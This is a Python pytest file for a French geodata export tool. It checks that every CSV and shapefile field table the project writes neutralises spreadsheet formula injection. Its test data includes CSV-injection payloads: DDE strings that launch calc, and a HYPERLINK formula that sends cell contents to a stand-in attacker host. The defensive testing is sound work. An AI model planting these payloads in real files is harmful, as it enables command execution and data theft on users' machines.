"""Every CSV the project writes is formula-safe: text from data that a spreadsheet would run as a formula (a cell
beginning with =, +, -, @, a tab, a carriage return) is written with a leading quote, numbers stay numbers.

Checked by reading the files back, with pandas and with Python's csv module: the rule on its own (a class of values
built in code), every CSV writer on a tiny layer whose every text column (and a column name) holds hostile values,
and the real service on the real data with a hostile scheme file (name, roles, notes) and a hostile commune name.
"""
from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import math
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
import yaml
from fastapi.testclient import TestClient

from boundaries import SCHEMES_DIR
from geo.config import Settings
from geo.exports import ExportLayer, LayerSpec, write
from geo.exports.styles import single_style
from geo.mapspec import SCALE_LINES
from geo.model import Model, load_model
from geo.spreadsheet import FORMULA_START, formula_safe, neutralise
from service.app import create_app

BIN = Path(sys.executable).parent / "territoires"
#: Each starts with one of the characters a spreadsheet reads as the start of a formula (DDE, HYPERLINK, @-functions).
PAYLOADS = [
    '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
#: Not formulas: kept exactly as they are.
HARMLESS = ["Toulouse", "Saint-Gaudens", "'déjà cité'", " =1+1", "l'EPCI = porteur", "31555", "2A004", "-0.046", "+33", "1,5e3", "-12"]
NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def runnable(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def cells(data: bytes) -> list[list[str]]:
    """Every row of a CSV, header included, read by Python's csv module as a spreadsheet would split it."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_every_formula_start_is_neutralised_and_nothing_else():
    values = pd.Series(PAYLOADS + HARMLESS + [None] + [c + "x" for c in FORMULA_START], dtype=object)
    out = neutralise(values)
    for before, after in zip(values, out):
        if before is None:
            assert after is None or (isinstance(after, float) and math.isnan(after))
        elif runnable(before):
            assert after == "'" + before
        else:
            assert after == before
    assert not any(runnable(v) for v in out.dropna())
    assert neutralise(pd.Series(HARMLESS)).tolist() == HARMLESS


def test_formula_safe_leaves_numbers_dates_and_booleans_alone():
    frame = pd.DataFrame({"=nom": ["=1", "b"], "population": [-5, 3], "area_km2": [-1.5, 2.25],
                          "start": pd.array([dt.date(2020, 1, 1), None], dtype="date32[pyarrow]"), "flag": [True, False],
                          "role": pd.array(["-x", pd.NA], dtype="string")})
    safe = formula_safe(frame)
    assert list(safe.columns) == ["'=nom", "population", "area_km2", "start", "flag", "role"]
    assert safe["'=nom"].tolist() == ["'=1", "b"] and safe["role"].iloc[0] == "'-x" and pd.isna(safe["role"].iloc[1])
    assert safe["population"].tolist() == [-5, 3] and safe["area_km2"].tolist() == [-1.5, 2.25]
    assert safe["population"].dtype == frame["population"].dtype and safe["start"].dtype == frame["start"].dtype
    assert list(frame.columns)[0] == "=nom" and frame["=nom"].tolist() == ["=1", "b"]  # the caller's frame is untouched


def hostile_layer() -> ExportLayer:
    """A tiny scheme layer whose every text column, and one column name, holds the payloads; numbers negative."""
    n = len(PAYLOADS)
    frame = gpd.GeoDataFrame({
        "scheme": PAYLOADS, "code": PAYLOADS[::-1], "nom": PAYLOADS, "level": PAYLOADS[3:] + PAYLOADS[:3],
        "role": pd.array(PAYLOADS, dtype="string"), "note": PAYLOADS[1:] + PAYLOADS[:1],
        "=SOMME(A1:A2)": PAYLOADS, "population": list(range(-n, 0)), "area_km2": [-0.5 * (i + 1) for i in range(n)],
        "start": pd.array([dt.date(2020, 1, 1)] * n, dtype="date32[pyarrow]"), "pilote": [i % 2 == 0 for i in range(n)],
    }, geometry=[shapely.box(1 + i / 10, 43, 1.05 + i / 10, 43.05) for i in range(n)], crs=4326)
    record = {"layer": "hostile", "title": "Hostile", "model_version": "test", "scope": "test", "within": None, "crs": "EPSG:4326",
              "features": n, "sources": [], "notes": []}
    return ExportLayer(LayerSpec("hostile", "Hostile", "scheme", "hostile"), frame, single_style(SCALE_LINES["commune"], "Hostile", "hostile"),
                       record)


def assert_safe(data: bytes, what: str) -> list[list[str]]:
    rows = cells(data)
    bad = [(i, c) for i, row in enumerate(rows) for c in row if runnable(c)]
    assert not bad, f"{what}: formula cells {bad[:5]}"
    return rows


@pytest.mark.parametrize("wkt", [False, True])
def test_the_csv_export_reads_back_as_text_with_numbers_kept(tmp_path: Path, wkt: bool):
    layer = hostile_layer()
    path = tmp_path / "hostile.csv"
    write([layer], "csv", path, crs=2154 if wkt else 4326, wkt=wkt)
    rows = assert_safe(path.read_bytes(), "csv")
    assert rows[0][:7] == ["scheme", "code", "nom", "level", "role", "note", "'=SOMME(A1:A2)"]
    table = pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig", dtype={c: str for c in rows[0][:7]}, keep_default_na=False)
    frame = layer.frame
    for column in ("scheme", "code", "nom", "level", "role", "note"):
        assert table[column].tolist() == ["'" + v for v in frame[column]], column  # every payload, quoted once, whole
    assert table["'=SOMME(A1:A2)"].tolist() == ["'" + v for v in PAYLOADS]
    assert table["population"].tolist() == frame["population"].tolist() and table["population"].dtype.kind == "i"
    assert table["area_km2"].tolist() == frame["area_km2"].tolist() and table["area_km2"].dtype.kind == "f"
    assert set(table["start"]) == {"2020-01-01"} and table["pilote"].tolist() == [1, 0] * (len(PAYLOADS) // 2) + [1]
    if wkt:
        assert table["wkt"].str.startswith("MULTIPOLYGON").all() or table["wkt"].str.startswith("POLYGON").all()


def test_the_shapefile_field_table_is_formula_safe(tmp_path: Path):
    path = tmp_path / "hostile.shp.zip"
    write([hostile_layer()], "shp.zip", path)
    with zipfile.ZipFile(path) as zf:
        data = zf.read("fields.csv")
    rows = assert_safe(data, "fields.csv")
    assert rows[0] == ["field", "shapefile_field"]
    assert ["'=SOMME(A1:A2)", "_SOMME_A1_"] in rows
    back = pd.read_csv(io.BytesIO(data), sep=";", dtype=str, encoding="utf-8-sig")
    assert back["field"].tolist()[:6] == ["scheme", "code", "nom", "level", "role", "note"]


# --- the real service on the real data ----------------------------------------------------------------------------

HOSTILE_ID = "contrat-formules"
TOULOUSE, LABEGE = "31555", "31254"
ROLE, NOTE, NAME = "=HYPERLINK(\"http://attaquant.example\";\"pilote\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"
COMMUNE = "=cmd|' /C calc'!A0 Toulouse"


@pytest.fixture(scope="module")
def hostile(mirror: Path, cache_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Model:
    """The real model with a scheme file whose name, roles and notes are formulas, and Toulouse named by one."""
    schemes = tmp_path_factory.mktemp("schemes")
    for path in SCHEMES_DIR.glob("*.yaml"):
        shutil.copyfile(path, schemes / path.name)
    scheme = {"id": HOSTILE_ID, "name": NAME, "kind": "contract", "member_scale": "commune",
              "period": {"start": "2022-01-01", "end": "2027-12-31"},
              "members": [{"code": TOULOUSE, "role": ROLE, "note": NOTE}, {"code": LABEGE, "role": "\t" + ROLE, "note": "\r" + NOTE}],
              "source": {"title": "+" + NAME, "url": "https://example.org/formules"}, "notes": "=1+1"}
    (schemes / f"{HOSTILE_ID}.yaml").write_text(yaml.safe_dump(scheme, allow_unicode=True, sort_keys=False), encoding="utf-8")
    model = load_model(Settings(mirror=mirror, cache=cache_dir, schemes=schemes))
    for table in (model.scales["commune"], model.territories.cog.communes):
        table.loc[table["code"] == TOULOUSE, "nom"] = COMMUNE
    return dataclasses.replace(model, version=model.version + "-formules")  # nothing derived from the names is built yet


@pytest.fixture(scope="module")
def hostile_client(hostile: Model):
    app = create_app(hostile.settings)
    app.state.holder.model = hostile
    app.state.holder.interval = math.inf  # never look for a newer published version
    with TestClient(app) as client:
        yield client


@pytest.mark.parametrize("path", [f"/export/scheme-{HOSTILE_ID}.csv", f"/export/scheme-{HOSTILE_ID}.csv?wkt=1&crs=2154",
                                  "/export/communes.csv?within=31", "/export/coverage.csv?within=31", "/export/epci.csv?within=31"])
def test_the_service_csv_exports_are_formula_safe_on_hostile_data(hostile_client: TestClient, path: str):
    r = hostile_client.get(path)
    assert r.status_code == 200, r.text
    rows = assert_safe(r.content, path)
    table = pd.read_csv(io.BytesIO(r.content), sep=";", decimal=",", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert len(table) == len(rows) - 1
    if "scheme-" in path:
        by_code = table.set_index("code")
        assert by_code.loc[TOULOUSE, "nom"] == "'" + COMMUNE and by_code.loc[TOULOUSE, "role"] == "'" + ROLE
        assert by_code.loc[TOULOUSE, "note"] == "'" + NOTE and by_code.loc[LABEGE, "role"] == "'\t" + ROLE
        assert by_code.loc[LABEGE, "note"] == "'\r" + NOTE and by_code.loc[LABEGE, "nom"] == "Labège"
    elif "communes" in path or "coverage" in path:
        assert table.set_index("code").loc[TOULOUSE, "nom"] == "'" + COMMUNE
        assert float(table.set_index("code").loc[TOULOUSE, "area_km2"].replace(",", ".")) > 100  # a number, decimal comma


def test_the_service_shapefile_fields_and_provenance_sidecar_on_hostile_data(hostile_client: TestClient):
    r = hostile_client.get(f"/export/scheme-{HOSTILE_ID}.shp.zip")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        assert_safe(zf.read("fields.csv"), "fields.csv")


@pytest.mark.parametrize("fmt", ["csv", "shp.zip"])
def test_the_command_line_csv_export_is_formula_safe(hostile: Model, tmp_path: Path, fmt: str):
    path = tmp_path / f"scheme.{fmt}"
    env = os.environ | {"TERRITOIRES_MIRROR": str(hostile.settings.mirror), "TERRITOIRES_CACHE": str(hostile.settings.cache),
                        "TERRITOIRES_SCHEMES": str(hostile.settings.schemes)}
    done = subprocess.run([str(BIN), "export", f"scheme-{HOSTILE_ID}", "-f", fmt, "-o", str(path)], env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    if fmt == "shp.zip":
        with zipfile.ZipFile(path) as zf:
            assert_safe(zf.read("fields.csv"), "fields.csv")
        return
    rows = assert_safe(path.read_bytes(), "territoires export")
    roles = {row[1]: row[4] for row in rows[1:]}
    assert roles == {TOULOUSE: "'" + ROLE, LABEGE: "'\t" + ROLE}
